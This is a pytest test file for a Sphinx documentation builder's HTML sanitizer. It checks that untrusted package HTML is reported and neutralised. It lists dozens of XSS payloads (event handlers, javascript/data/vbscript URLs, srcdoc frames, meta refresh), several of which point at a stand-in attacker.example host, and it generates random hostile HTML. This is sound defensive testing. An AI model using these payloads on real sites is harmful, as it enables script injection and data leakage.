"""HTML from a package reaches reviewers' browsers only through the allow-list sanitizer.

Vectors by class (handlers, schemes, documents in frames, refresh and base, forms,
SVG and MathML, CSS), written where a package can write HTML (a block, inline, a table
cell, a need's body, ``eval-rst``, ``{raw} html``): each is reported at its file:line and
nothing of it runs in the built pages, which are parsed back to check. Ordinary HTML
still renders and is not reported. The system name is escaped in every template, every
page carries the Content-Security-Policy, the sanitizer holds for random HTML
(hypothesis), the report is linear in its input, and in Chromium no dialog opens and no
request leaves the site.
"""

from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import AS_OF, WatchedPage
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sphinx_handover.untrusted.html_policy import sanitize, url_scheme
from sphinx_handover.untrusted.page_security import CONTENT_SECURITY_POLICY
from sphinx_handover.untrusted.unsafe_html import findings_in

PAGE = Path("chapters") / "03-runbooks.md"
ORDINARY_PAGE = Path("chapters") / "01-service-overview.md"

#: (Markdown block, index of its line that holds the unsafe markup).
VECTORS = [
    ('<div\n  onclick="alert(101)">handler on the next line</div>', 0),
    ("<div><svg/onload=alert(102)></div>", 0),
    ('Inline <a href="&#106;avascript:alert(103)">entity-encoded scheme</a> here.', 0),
    ('Inline <a href="java\tscript:alert(104)">tab-split scheme</a> here.', 0),
    ('<iframe srcdoc="&lt;script&gt;alert(105)&lt;/script&gt;"></iframe>', 0),
    ('<iframe src="data:text/html,<script>alert(106)</script>"></iframe>', 0),
    ('<object data="data:text/html,<script>alert(107)</script>"></object>', 0),
    ('<div><embed src="data:text/html,alert(108)"></div>', 0),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(109)">', 0),
    ('<base href="https://attacker.example/">', 0),
    ('<form action="https://attacker.example/"><button>send</button></form>', 0),
    ('<p><button formaction="javascript:alert(112)">go</button></p>', 0),
    ('<p><math><maction actiontype="statusline" xlink:href="javascript:alert(113)">m</maction></math></p>', 0),
    ('<p><svg><a xlink:href="javascript:alert(114)"><text x="1" y="10">s</text></a></svg></p>', 0),
    ('<div style="background:url(javascript:alert(115))">css</div>', 0),
    ('<style>body{background:url("https://attacker.example/116")}</style>', 0),
    ("Upper <IMG SRC=x OnError=alert(117)> case.", 0),
    ('<a href="vbscript:msgbox(118)">vbscript</a>', 0),
    ('<a href="data:text/html,<script>alert(119)</script>">data URL</a>', 0),
    ('<link rel="import" href="https://attacker.example/120.html">', 0),
    ("<script>alert(121)</script>", 0),
    ("| a | b |\n|---|---|\n| <img src=x onerror=alert(122)> | cell |", 2),
    ("```{eval-rst}\n.. raw:: html\n\n   <img src=x onerror=alert(123)>\n```", 3),
    ("```{raw} html\n<img src=x onerror=alert(124)>\n```", 1),
    ("```{req} HTML in a need body\n:id: REQ_HTML_VECTOR\n\n<img src=x onerror=alert(125)>\n```", 3),
    ('Spaces <a href=" \x01 JAVASCRIPT:alert(126)">and a control character</a>.', 0),
    ('Split <img src="x" onerror\n=alert(127)> attribute.', 0),
    ('<details open ontoggle="alert(128)"><summary>s</summary></details>', 0),
]

ORDINARY = """
<details>
<summary>Restore details</summary>

Markdown **inside** details.

</details>

Press <kbd>Ctrl</kbd>+<kbd>C</kbd>; H<sub>2</sub>O and x<sup>2</sup>; <span class="ops-note">a note</span>.

| step | note |
|---|---|
| one<br>two | <a href="https://example.com/runbook">runbook</a> |

<div class="handover-box"><img src="../_static/handover-theme-choice.js" alt="relative image"> <a href="mailto:ops@example.com">mail</a></div>
"""


def plant(root: Path) -> dict[int, str]:
    """Append every vector to one chapter; return {line: vector} of what must be reported."""
    page = root / PAGE
    text = page.read_text("utf-8").rstrip("\n") + "\n"
    expected = {}
    for block, offset in VECTORS:
        text += "\n"
        expected[text.count("\n") + 1 + offset] = block
        text += block + "\n"
    page.write_text(text, "utf-8")
    ordinary = root / ORDINARY_PAGE
    ordinary.write_text(ordinary.read_text("utf-8") + ORDINARY, "utf-8")
    return expected


class _PageAudit(HTMLParser):
    """What in a built page could run or reach another origin."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.open_script: bool = False
        self.csp: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            src = attributes.get("src") or ""
            if not src or urlsplit(src).scheme or src.startswith("//"):
                self.problems.append(f"script {src!r}")
            self.open_script = True
        if tag in ("iframe", "frame", "object", "embed", "base", "applet", "portal"):
            self.problems.append(f"<{tag}>")
        if tag == "meta" and attributes.get("http-equiv"):
            if attributes["http-equiv"].lower() == "content-security-policy":
                self.csp.append(attributes.get("content") or "")
            else:
                self.problems.append(f"meta http-equiv={attributes['http-equiv']}")
        if tag == "form" and urlsplit(attributes.get("action") or "").scheme:
            self.problems.append(f"form action {attributes['action']}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "srcdoc", "xlink:href", "data", "poster"):
                scheme = url_scheme(value or "")
                if name == "srcdoc" or scheme in ("javascript", "data", "vbscript"):
                    self.problems.append(f"{tag} {name}={value!r}")
            if "attacker.example" in (value or ""):
                self.problems.append(f"{tag} {name}={value!r}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script":
            self.open_script = False

    def handle_data(self, data):
        if self.open_script and data.strip():
            self.problems.append(f"inline script {data.strip()[:40]!r}")


def audit(path: Path) -> _PageAudit:
    auditor = _PageAudit()
    auditor.feed(path.read_text("utf-8"))
    auditor.close()
    return auditor


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The complete example with every vector planted, built and checked once."""
    from handover_kit.cli import main

    root = tmp_path_factory.mktemp("attacked") / "ec-order-service"
    import shutil

    from conftest import EXAMPLES

    shutil.copytree(EXAMPLES / "ec-order-service", root, ignore=shutil.ignore_patterns("_build"))
    expected = plant(root)
    return root, expected, main


def _run(capsys, main, *argv) -> tuple[int, str]:
    capsys.readouterr()
    code = main([str(arg) for arg in argv])
    return code, capsys.readouterr().err


def test_each_vector_is_reported_at_its_line_and_nothing_of_it_runs(attacked, capsys):
    root, expected, main = attacked
    built_code, built_err = _run(capsys, main, "build", root, "--as-of", AS_OF)
    checked_code, checked_err = _run(capsys, main, "check", root, "--as-of", AS_OF)
    assert built_code == checked_code == 1
    for err in (built_err, checked_err):
        reported = {
            int(line.split(":")[1])
            for line in err.splitlines()
            if "[handover.unsafe_html]" in line and f"{PAGE.as_posix()}:" in line
        }
        missing = {line: block for line, block in expected.items() if line not in reported}
        assert not missing, (missing, err)
        assert not [line for line in err.splitlines() if "[handover.unsafe_html]" in line and "01-service" in line]
    site = root / "_build" / "html"
    pages = sorted(site.rglob("*.html"))
    assert pages
    for page in pages:
        if "_evidence" in page.parts:
            continue  # the evidence pages are written by artifact publishing, not Sphinx
        result = audit(page)
        assert not result.problems, (page, result.problems)
        assert result.csp == [CONTENT_SECURITY_POLICY], page
    chapter = (site / "chapters" / "03-runbooks.html").read_text("utf-8")
    for number in range(101, 129):
        assert f"alert({number})" not in chapter or f"alert({number})" in html.unescape(_text_only(chapter))


def _text_only(markup: str) -> str:
    """The page's text content (what a reader sees), to tell shown-as-text from markup."""
    parts: list[str] = []

    class Text(HTMLParser):
        def handle_data(self, data):
            parts.append(data)

    Text(convert_charrefs=True).feed(markup)
    return "".join(parts)


def test_ordinary_html_still_renders(attacked, capsys):
    root, _, main = attacked
    page = root / "_build" / "html" / "chapters" / "01-service-overview.html"
    if not page.exists():
        _run(capsys, main, "build", root, "--as-of", AS_OF)
    built = page.read_text("utf-8")
    details = built.index("<details>")
    assert details < built.index("<strong>inside</strong>") < built.index("</details>")
    assert "<summary>Restore details</summary>" in built
    for fragment in (
        "<kbd>Ctrl</kbd>",
        "<sub>2</sub>",
        "<sup>2</sup>",
        '<span class="ops-note">a note</span>',
        "one<br>two",
        '<a href="mailto:ops@example.com" rel="noopener noreferrer">',
        '<a href="https://example.com/runbook" rel="noopener noreferrer">',
        'alt="relative image"',
    ):
        assert fragment in built, fragment


def test_system_name_is_escaped_in_every_template(cli, example_copy):
    root = example_copy()
    name = "<img src=x onerror=alert(1)>\"'&"
    data = root / "handover.yaml"
    quoted = "'" + name.replace("'", "''") + "'"
    data.write_text(data.read_text("utf-8").replace("system: EC受注サービス", f"system: {quoted}"), "utf-8")
    result = cli("build", root, "--as-of", AS_OF)
    assert result.code == 0, result.output
    site = root / "_build" / "html"
    for page in [site / "index.html", site / "search.html", site / "chapters" / "01-service-overview.html"]:
        text = page.read_text("utf-8")
        assert "<img src=x" not in text, page
        assert not audit(page).problems, page
        titles = _titles(text)
        assert titles and name in titles[0], (page, titles[:1])  # the head's <title>; then SVG icons' titles
    index = (site / "index.html").read_text("utf-8")
    brands = re.findall(r'class="(?:sidebar-brand-text|brand)">([^<]*)<', index)
    assert len(brands) == 2 and all(html.unescape(brand) == name for brand in brands), brands


def _titles(markup: str) -> list[str]:
    found: list[str] = []

    class Titles(HTMLParser):
        inside = False

        def handle_starttag(self, tag, attrs):
            self.inside = tag == "title"

        def handle_data(self, data):
            if self.inside:
                found.append(data)

        def handle_endtag(self, tag):
            self.inside = False

    Titles(convert_charrefs=True).feed(markup)
    return found


@pytest.mark.parametrize(
    ("markup", "line"),
    [
        ("<a\nhref='x'\nonclick=alert(1)>x</a>", 1),
        ("text\n<svg/onload=alert(1)>", 2),
        ("<a href='&#x6A;avascript&colon;alert(1)'>x</a>", 1),
        ("<a href='&Tab;javascript:alert(1)'>x</a>", 1),
        ("<a href='jav&#x09;ascript:alert(1)'>x</a>", 1),
        ("<img srcset='ok.png 1x, javascript:alert(1) 2x'>", 1),
        ("<!-- <script>no</script> -->\n<iframe src=x>", 2),
        ("<textarea><script>no</script></textarea>", None),
        ("<title><img src=x onerror=alert(1)></title>", None),
        ("<a href='https://example.com/'>fine</a> <img src='/logo.png'> <br> <kbd>x</kbd>", None),
        ("<a href='mailto:ops@example.com'>mail</a> <a href='../x.html#y'>rel</a>", None),
        ("<span style='color: red'>plain style</span>", None),
        ("<pid> and <service name> placeholders", None),
        ("<isindex action=javascript:alert(1)>", 1),
        ("<video><source onerror=alert(1)></video>", 1),
        ("<svg><animate attributeName=href values=javascript:alert(1) /></svg>", 1),
        ("<svg><set attributeName=onmouseover to=alert(1) /></svg>", 1),
    ],
)
def test_report_reads_html_as_a_browser_does(markup, line):
    found = [reported for reported, _ in findings_in(markup, markdown=False)]
    assert found == ([] if line is None else [line])


def test_html_shown_as_code_in_markdown_is_not_reported():
    markdown = (
        "Do not write `<script>` in a page.\n\n"
        '```html\n<meta http-equiv="refresh" content="0">\n```\n\n'
        "    <iframe src=x></iframe>\n\n"
        "````{note}\n```html\n<script>alert(1)</script>\n```\n````\n\n"
        "<b onclick=alert(1)>reported</b>\n"
    )
    assert [line for line, _ in findings_in(markdown, markdown=True)] == [15]


def _ratio(make, size):
    started = time.perf_counter()
    list(findings_in(make(size), markdown=True))
    return time.perf_counter() - started


def test_report_is_linear_in_its_input():
    """A multi-megabyte line of '<' or of '<a ' costs about what as much ordinary text does."""
    size = 3_000_000
    ordinary_unit = "Press <kbd>Ctrl</kbd> then <b>stop</b>; see `code` and the note.\n\n"
    ordinary = _ratio(lambda n: (ordinary_unit * (n // len(ordinary_unit) + 1))[:n], size)
    for unit in ("<", "<a ", '<a href="', "<!--", "</", "<a\n\n"):
        spent = _ratio(lambda n, unit=unit: unit * (n // len(unit)), size)
        assert spent < 3 * ordinary + 0.5, (unit, spent, ordinary)


# --- the sanitizer as a function, on random HTML -------------------------------------

_TAGS = [
    "a",
    "img",
    "div",
    "span",
    "script",
    "style",
    "iframe",
    "svg",
    "math",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "details",
    "table",
    "td",
    "textarea",
    "title",
    "template",
    "noscript",
    "button",
    "input",
    "video",
    "source",
    "animate",
    "set",
    "use",
    "image",
    "xmp",
    "plaintext",
]
_ATTRIBUTES = [
    "href",
    "src",
    "srcdoc",
    "action",
    "formaction",
    "xlink:href",
    "onload",
    "onerror",
    "OnClick",
    "style",
    "http-equiv",
    "content",
    "data",
    "class",
    "title",
    "values",
    "to",
    "attributeName",
]
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "&#x6A;avascript&colon;",
    " \x01javascript:",
    "vbscript:",
    "data:text/html,",
    "https://ok.example/",
    "",
    "#",
    "mailto:",
]
_PAYLOADS = ["alert(1)", "<script>alert(1)</script>", "url(javascript:alert(1))", "0;url=javascript:alert(1)"]

_attribute = st.builds(
    lambda name, quote, scheme, payload, sep: f"{sep}{name}={quote}{scheme}{payload}{quote}",
    st.sampled_from(_ATTRIBUTES),
    st.sampled_from(['"', "'", ""]),
    st.sampled_from(_SCHEMES),
    st.sampled_from(_PAYLOADS),
    st.sampled_from([" ", "\n", "/", "\t"]),
)
_element = st.recursive(
    st.sampled_from(["text", "&lt;", "<", ">", "&", "<!--", "-->", "]]>", "<![CDATA["]),
    lambda children: st.builds(
        lambda tag, attributes, inner, close: (
            f"<{tag}{''.join(attributes)}>{''.join(inner)}" + (f"</{tag}>" if close else "")
        ),
        st.sampled_from(_TAGS + [t.upper() for t in _TAGS[:6]]),
        st.lists(_attribute, max_size=3),
        st.lists(children, max_size=3),
        st.booleans(),
    ),
    max_leaves=12,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_element, min_size=1, max_size=4).map("".join))
def test_no_executable_construct_survives_the_sanitizer(markup):
    cleaned = sanitize(markup)
    result = _PageAudit()
    result.feed(cleaned)
    result.close()
    assert not result.problems, (markup, cleaned)
    for tag in (
        "<script",
        "<style",
        "<iframe",
        "<svg",
        "<math",
        "<object",
        "<embed",
        "<form",
        "<base",
        "<meta",
        "<link",
        "<textarea",
        "<template",
    ):
        assert tag not in cleaned.lower(), (markup, cleaned)
    assert findings_in(cleaned, markdown=False) is not None
    assert not list(findings_in(cleaned, markdown=False)), (markup, cleaned)
    assert sanitize(cleaned) == cleaned


# --- in the browser ------------------------------------------------------------------


def test_in_chromium_nothing_runs_and_nothing_leaves_the_site(attacked, capsys, browser, serve):
    root, _, main = attacked
    site = root / "_build" / "html"
    if not (site / "chapters" / "03-runbooks.html").exists():
        _run(capsys, main, "build", root, "--as-of", AS_OF)
    base = serve(site)
    watched = WatchedPage(browser, base)
    page = watched.page
    for path in (
        "chapters/03-runbooks.html",
        "chapters/01-service-overview.html",
        "index.html",
        "traceability.html",
        "search.html?q=%E6%89%8B%E9%A0%86",
    ):
        page.goto(f"{base}/{path}")
        page.wait_for_load_state("networkidle")
        for link in page.locator("article a").all()[:400]:
            link.hover(timeout=2000, force=True)
    page.close()
    assert not watched.dialogs, watched.dialogs
    assert not watched.foreign, watched.foreign
    assert not watched.violations, watched.violations


MARKUP_LINKS = """# Links

[md](javascript:alert(201)) <javascript:alert(202)> [ref][r] ![img](javascript:alert(203))

[r]: javascript:alert(204)

```{eval-rst}
`rst link <javascript:alert(205)>`_ and `data link <data:text/html,x>`_ and `vb <VBScript:x>`_

.. _named: javascript:alert(206)

see named_ and `anonymous <javascript:alert(207)>`__

.. image:: javascript:alert(208)
   :target: javascript:alert(209)

.. figure:: evidence/shot.png
   :target: javascript:alert(210)

   caption
```

```{image} evidence/shot.png
:target: javascript:alert(211)
```
"""


def test_links_of_markup_with_a_refused_scheme_keep_their_text_and_build(cli, package):
    """Markdown and reST links, targets and image targets get the HTML rule for URLs: a
    link whose scheme is refused keeps its text and loses its link (a reference left
    without a URL had stopped Sphinx's writer with a traceback)."""
    from test_gate_rules import evidence, make

    make(package, evidence())
    (package.root / "evidence").mkdir(exist_ok=True)
    (package.root / "evidence" / "shot.png").write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6300010000050001"
        )
        + bytes.fromhex("0d0a2db40000000049454e44ae426082")
    )
    package.page("links", MARKUP_LINKS)
    built = cli("build", package.root, "--as-of", AS_OF)
    assert built.code in (0, 1) and "Traceback" not in built.output, built.output
    page = package.root / "_build" / "html" / "links.html"
    assert audit(page).problems == []
    text = page.read_text("utf-8")
    assert not re.search(r"(?i)(href|src)=\"\s*(javascript|data|vbscript):", text)
    for words in ("rst link", "data link", "anonymous"):
        assert words in text, words
